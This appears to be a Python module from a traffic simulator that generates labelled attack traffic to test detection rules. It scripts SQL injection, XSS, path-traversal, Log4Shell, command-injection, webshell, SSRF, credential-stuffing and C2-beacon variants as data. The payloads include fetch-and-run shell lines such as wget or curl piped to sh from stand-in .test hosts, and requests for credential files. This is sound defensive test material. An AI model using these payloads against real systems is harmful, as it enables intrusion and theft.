"""What is hostile: families of attacks, each made of variants in the order in which rules learn to know them.

The payloads are the textbook ones that every scanner sends; nothing here works against anything. Names of malware are
invented, hosts lie under .example and .test.
"""

from __future__ import annotations

from dataclasses import dataclass

from traffic.simulator.everyday import BROWSER_OUTSIDE
from traffic.simulator.vocabulary import (
    ALWAYS,
    ANSWERED,
    BINARY,
    HTML,
    JSON,
    REFUSED,
    SCRIPT,
    TEXT,
    Activity,
    Page,
    Rhythm,
    Rule,
    Statuses,
    Way,
)


@dataclass(frozen=True, slots=True)
class Family:
    """Variants share what the family gets by their own shares; rules know the first ones."""

    weight: float
    variants: tuple[Activity, ...]


_TOOLS = ("python-requests/2.28.1", "curl/7.81.0", "Go-http-client/1.1", "Mozilla/5.0", "")
# the page answers as it does to everybody, unless the attack breaks it
_ANSWERS = {"/products?id=~P": 44_000, "/support/article.php?id=~n~P": 27_000, "/search?q=~P&page=~p": 22_000}
_PARAMETERS = (*_ANSWERS, "/news.asp?cat=~w&item=~P")


def _web(
    name: str,
    targets: tuple[str, ...],
    payloads: tuple[str, ...],
    rule: Rule,
    *,
    share: float,
    agents: tuple[str, ...] = BROWSER_OUTSIDE,
    size: float = 1.6,
    burst: int = 0,
    method: str = "GET",
    statuses: Statuses = ANSWERED,
    answer: int = 3_500,
) -> Activity:
    """An attack on a published server."""
    pages = tuple(
        Page(method, target, HTML, _ANSWERS.get(target, answer), statuses, 1.0, payloads) for target in targets
    )
    return Activity(
        name, pages, (), agents, (), Way.IN, Rhythm.MACHINES, share=share, size=size, burst=burst, rule=rule
    )


_SQLI = Family(
    3,
    (
        _web(
            "sqli-union",
            _PARAMETERS,
            (
                "-~n UNION ALL SELECT NULL,CONCAT(0x71,user(),0x71),NULL-- -",
                "' UNION SELECT 1,2,table_name FROM information_schema.tables--",
                "~p' and 1=2 union select username,password from users#",
            ),
            Rule(1_100_001, "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT FROM", "web-application-attack"),
            share=3,
            agents=("sqlmap/1.7.2#stable (https://sqlmap.example)", *BROWSER_OUTSIDE[:2]),
            size=3,
        ),
        _web(
            "sqli-logic",
            _PARAMETERS,
            ("~p' OR '1'='1", "~p' AND 4821=4821-- aBcD", "admin' or 1=1#", '" or ""="'),
            Rule(1_100_002, "ET WEB_SERVER SQL Injection Boolean Condition in URI", "web-application-attack"),
            share=2,
        ),
        _web(
            "sqli-delay",
            _PARAMETERS,
            (
                "~p AND SLEEP(5)",
                "~p';WAITFOR DELAY '0:0:5'--",
                "~p||pg_sleep(5)--",
                "(select*from(select(sleep(20)))a)",
            ),
            Rule(1_100_003, "ET WEB_SERVER SQL Injection Time Delay in URI", "web-application-attack"),
            share=2,
        ),
        _web(
            "sqli-comments",
            _PARAMETERS,
            (
                "~p'/**/uNiOn/**/sElEcT/**/~p,group_concat(login)/**/fRoM/**/members--+",
                "~p/*!50000and*/(extractvalue(1,concat(0x7e,(version()))))",
                "~p%a0or%a01=1",
            ),
            Rule(1_100_004, "ET SQL Comment Obfuscated SELECT in URI", "web-application-attack"),
            share=2,
        ),
    ),
)
_XSS = Family(
    2,
    (
        _web(
            "xss-script",
            _PARAMETERS,
            ("<script>alert(document.cookie)</script>", '"><script>alert(~p)</script>', "<script src=//~w.test/x.js>"),
            Rule(1_100_010, "ET WEB_SERVER Script tag in URI, Possible Cross Site Scripting Attempt", "misc-attack"),
            share=3,
        ),
        _web(
            "xss-handlers",
            _PARAMETERS,
            ('"><img src=x onerror=alert(1)>', "<svg/onload=confirm(~p)>", "' onfocus=prompt(1) autofocus='"),
            Rule(1_100_011, "ET WEB_SERVER Event Handler in URI, Possible Cross Site Scripting", "misc-attack"),
            share=2,
        ),
    ),
)
_TRAVERSAL = Family(
    2,
    (
        _web(
            "traversal-plain",
            ("/download.php?file=~P", "/view?page=~P", "/static/~P"),
            ("../../../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "../../../etc/shadow%00.jpg"),
            Rule(1_100_020, "ET WEB_SERVER /etc/passwd Detected in URI", "attempted-recon"),
            share=3,
            statuses=REFUSED,
        ),
        _web(
            "hidden-files",
            ("/.env", "/.git/HEAD", "/.aws/credentials", "/backup/~w.sql", "/wp-config.php.bak", "/.ssh/id_rsa"),
            (),
            Rule(1_100_022, "ET SCAN Request for Hidden Configuration File", "web-application-attack"),
            share=2,
            agents=_TOOLS,
            size=3,
            statuses=REFUSED,
        ),
        _web(
            "traversal-encoded",
            ("/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/hosts", "/icons/..%c0%af..%c0%afproc/self/environ?~p"),
            (),
            Rule(1_100_021, "ET EXPLOIT Encoded Path Traversal in URI", "attempted-recon"),
            share=1,
            agents=_TOOLS,
            statuses=REFUSED,
        ),
    ),
)
_COMMANDS = Family(
    3,
    (
        _web(
            "log4shell",
            ("/?x=~P", "/login?user=~P", "/search?q=~P"),
            (
                "${jndi:ldap://~w.test:1389/a~h}",
                "${${lower:j}ndi:${lower:l}dap://~w.test/~w}",
                "${jndi:dns://~H.~w.test/}",
            ),
            Rule(1_100_030, "ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)", "attempted-admin"),
            share=3,
            agents=("${jndi:ldap://~w.test:1389/~h}", *_TOOLS),
        ),
        _web(
            "device-commands",
            (
                "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(~P)",
                "/shell?cd+/tmp;~P",
                "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=~P&curpath=/&currentsetting.htm=1",
            ),
            (
                "rm -rf /tmp/*;wget http://~w.test/bins.sh -O /tmp/~w;sh /tmp/~w",
                "wget http://198.51.100.~p/~w.mips; chmod 777 ~w.mips; ./~w.mips",
            ),
            Rule(1_100_031, "ET EXPLOIT Netgear DGN Remote Command Execution", "attempted-admin"),
            share=3,
            agents=("Hello, world", "Mozila/5.0", "curl/7.58.0"),
            statuses=REFUSED,
        ),
        _web(
            "php-objects",
            ("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=~P",),
            ("system&vars[1][]=id", "phpinfo&vars[1][]=1", "shell_exec&vars[1][]=curl ~w.test/~w|sh"),
            Rule(1_100_032, "ET WEB_SPECIFIC_APPS ThinkPHP RCE Exploitation Attempt", "attempted-admin"),
            share=1,
            agents=_TOOLS,
        ),
        _web(
            "parameter-commands",
            ("/ping?host=~P", "/tools/lookup.php?domain=~w.example~P", "/api/v1/convert?name=~P"),
            ("127.0.0.1;cat /etc/passwd", "|id", "`curl http://~w.test/~h`", "$(wget -qO- ~w.test|sh)", "&&whoami"),
            Rule(1_100_033, "ET WEB_SERVER Shell Metacharacters in Parameter", "web-application-attack"),
            share=2,
        ),
        _web(
            "templates",
            ("/profile?name=~P", "/render?template=~P", "/actuator/gateway/routes/~h?filter=~P"),
            ("{{7*7}}", "#{T(java.lang.Runtime).getRuntime().exec('id')}", "%{(#a=@org.ognl@x).(#b)}", "<%= `id` %>"),
            Rule(1_100_034, "ET WEB_SERVER Template Expression in URI", "web-application-attack"),
            share=1,
        ),
    ),
)
_WEBSHELL = Family(
    1.5,
    (
        _web(
            "webshell-known",
            ("/uploads/c99.php?act=cmd&cmd=~P", "/images/wso.php?a=FilesMan&c=~P", "/wp-content/uploads/r57.php?~P"),
            ("ls -la", "cat /etc/passwd", "uname -a;id", "/var/www/html"),
            Rule(1_100_040, "ET WEB_SERVER WebShell Generic - c99/WSO Access", "trojan-activity"),
            share=2,
            statuses=ALWAYS,
            size=3,
        ),
        Activity(
            "webshell-quiet",
            (
                Page("POST", "/images/~w.php?p=~b", HTML, 800, ALWAYS, 2),
                Page("GET", "/aspnet_client/~w.aspx?exec_code=~b", HTML, 1_200, ALWAYS),
                Page("POST", "/uploads/.~w.jsp?pwd=~h&c=whoami", TEXT, 90, ALWAYS),
            ),
            (),
            (*BROWSER_OUTSIDE[:1], *_TOOLS),
            (),
            Way.IN,
            Rhythm.MACHINES,
            share=2,
            size=4,
            rule=Rule(1_100_041, "ET ATTACK_RESPONSE Output of id command in Response", "successful-admin", True),
        ),
    ),
)
_SSRF = Family(
    1,
    (
        _web(
            "ssrf-metadata",
            ("/proxy?url=~P", "/api/fetch?target=~P", "/image.php?src=~P"),
            (
                "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                "http://metadata.cloud.test/computeMetadata/v1/?recursive=true",
            ),
            Rule(1_100_050, "ET WEB_SERVER Possible SSRF - Cloud Metadata Address in URI", "web-application-attack"),
            share=2,
        ),
        _web(
            "ssrf-inside",
            ("/proxy?url=~P", "/api/fetch?target=~P", "/webhook/test?callback=~P"),
            ("http://127.0.0.1:6379/", "gopher://10.0.0.~p:6379/_FLUSHALL", "file:///etc/passwd", "http://[::1]:9200/"),
            Rule(1_100_051, "ET WEB_SERVER Possible SSRF - Internal Address in Parameter", "web-application-attack"),
            share=1,
        ),
    ),
)
_STUFFING = Family(
    2,
    (
        Activity(
            "stuffing-tool",
            (
                Page("POST", "/account/login", HTML, 2_100, ((200, 96), (302, 4))),
                Page("POST", "/wp-login.php", HTML, 6_000, ((200, 1),), 0.4),
            ),
            (),
            ("python-requests/2.28.1", "Mozilla/5.0 (compatible; OpenBullet)", "Go-http-client/1.1"),
            (),
            Way.IN,
            Rhythm.MACHINES,
            share=2,
            size=4,
            burst=60,
            rule=Rule(1_100_060, "ET SCAN Login Form Brute Force Attempt", "attempted-recon"),
        ),
        Activity(
            "stuffing-browser",  # from the outside it is a login like any other, only many of them
            (Page("POST", "/account/login", HTML, 2_100, ((200, 97), (302, 3))),),
            (),
            BROWSER_OUTSIDE,
            (),
            Way.IN,
            Rhythm.MACHINES,
            share=0.5,
            size=2,
            burst=40,
            rule=Rule(1_100_061, "ET SCAN Distributed Login Attempts", "attempted-recon"),
        ),
    ),
)
_SCAN = Family(
    3,
    (
        _web(
            "scan-nikto",
            (
                "/cgi-bin/~w.cgi",
                "/~w.php?file=~P",
                "/admin/~w.asp",
                "/phpinfo.php",
                "/server-status",
                "/~h.txt<script>~p",
            ),
            ("../../../../etc/passwd", "http://~w.test/rfi.txt?", "<script>alert(1)</script>"),
            Rule(1_100_070, "ET SCAN Nikto Web App Scan in Progress", "web-application-attack"),
            share=2,
            agents=("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:~p)",),
            size=8,
            burst=80,
            statuses=REFUSED,
        ),
        _web(
            "scan-mass",
            ("/", "/boaform/admin/formLogin?username=admin&psd=admin", "/manager/html", "/solr/admin/info/system"),
            (),
            Rule(1_100_071, "ET SCAN Zmap User-Agent (Inbound)", "network-scan"),
            share=1,
            agents=("Mozilla/5.0 zgrab/0.x", "masscan/1.3", "l9explore/1.2.2"),
            statuses=REFUSED,
        ),
        _web(
            "scan-dirs",
            (
                "/~w/",
                "/~w.bak",
                "/old/~w.zip",
                "/api/v~p/~w",
                "/admin~p/",
                "/~w/setup.php",
                "/vendor/~w/eval-stdin.php",
            ),
            (),
            Rule(1_100_072, "ET SCAN Directory Enumeration", "attempted-recon"),
            share=2,
            agents=("gobuster/3.6", "Fuzz Faster U Fool v2.1.0", *BROWSER_OUTSIDE[:1]),
            size=10,
            burst=80,
            statuses=((404, 90), (403, 6), (200, 4)),
        ),
    ),
)


def _beacon(
    name: str,
    pages: tuple[Page, ...],
    servers: tuple[str, ...],
    agents: tuple[str, ...],
    rule: Rule,
    *,
    share: float,
    period: float,
    jitter: float,
    port: int = 80,
) -> Activity:
    """An implant on a host inside that asks its master again and again."""
    return Activity(
        name,
        pages,
        servers,
        agents,
        ("office", "developer", "server"),
        Way.OUT,
        Rhythm.MACHINES,
        share=share,
        port=port,
        period=period,
        jitter=jitter,
        rule=rule,
    )


_BEACONS = Family(
    5,
    (
        _beacon(
            "c2-jackdaw",
            (Page("POST", "/panel/gate.php?bot=~I&os=10.0&av=0", HTML, 24, ALWAYS),),
            ("~w~h.test",),
            ("Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1)",),
            Rule(1_100_080, "ET MALWARE Jackdaw Loader Checkin", "command-and-control"),
            share=2,
            period=300,
            jitter=0.1,
        ),
        _beacon(
            "c2-heron",
            (
                Page("GET", "/submit.php?id=~p~n", HTML, 0, ALWAYS),
                Page("GET", "/__utm.gif?utmac=UA-~n-2&utmcn=1&data=~b", "image/gif", 43, ALWAYS, 3),
            ),
            ("cdn-~h.test", "203.0.113.77"),
            ("Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0)",),
            Rule(1_100_081, "ET MALWARE Heron Beacon Observed (malleable profile)", "command-and-control"),
            share=2,
            period=60,
            jitter=0.3,
        ),
        _beacon(
            "c2-plover",
            (Page("POST", "/api/tasks?uid=~I&data=~b", JSON, 61, ALWAYS),),
            ("~h~h.~w.test",),
            ("Go-http-client/1.1",),
            Rule(1_100_082, "ET MALWARE Plover RAT CnC Activity", "command-and-control"),
            share=2,
            period=120,
            jitter=0.2,
            port=8443,
        ),
        _beacon(
            "c2-magpie",
            (
                Page("POST", "/~h/~h.php?k=~b", BINARY, 80, ALWAYS),
                Page("GET", "/~h.bin?id=~I", BINARY, 30_000, ALWAYS, 0.1),
            ),
            ("~h~w.test",),
            ("WinHTTP/1.0", ""),
            Rule(1_100_083, "ET TROJAN Magpie Stealer Exfiltration", "trojan-activity"),
            share=2,
            period=600,
            jitter=0.4,
        ),
        _beacon(
            "c2-kestrel",  # dressed as a browser that fetches a script
            (Page("GET", "/jquery-3.3.1.min.js?~b", SCRIPT, 5_600, ALWAYS),),
            ("static.~w-~w.test",),
            ("Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko",),
            Rule(1_100_084, "ET MALWARE Kestrel Beacon (jquery profile)", "command-and-control"),
            share=1,
            period=90,
            jitter=0.5,
        ),
    ),
)

FAMILIES = {
    "sqli": _SQLI,
    "xss": _XSS,
    "traversal": _TRAVERSAL,
    "rce": _COMMANDS,
    "webshell": _WEBSHELL,
    "ssrf": _SSRF,
    "stuffing": _STUFFING,
    "scan": _SCAN,
    "c2": _BEACONS,
}

# rules of variants: what look-alikes are mistaken for
RULES = {one.name: one.rule for family in FAMILIES.values() for one in family.variants if one.rule}


def known_shares(family: Family, known_to_rules: float) -> dict[str, float]:
    """Return for each variant the share of its flows that rules hit: the first wholly, one in part, the rest never."""
    whole = sum(variant.share for variant in family.variants)
    left, shares = known_to_rules * whole, {}
    for variant in family.variants:
        shares[variant.name] = min(1.0, max(0.0, left / variant.share))
        left -= variant.share
    return shares
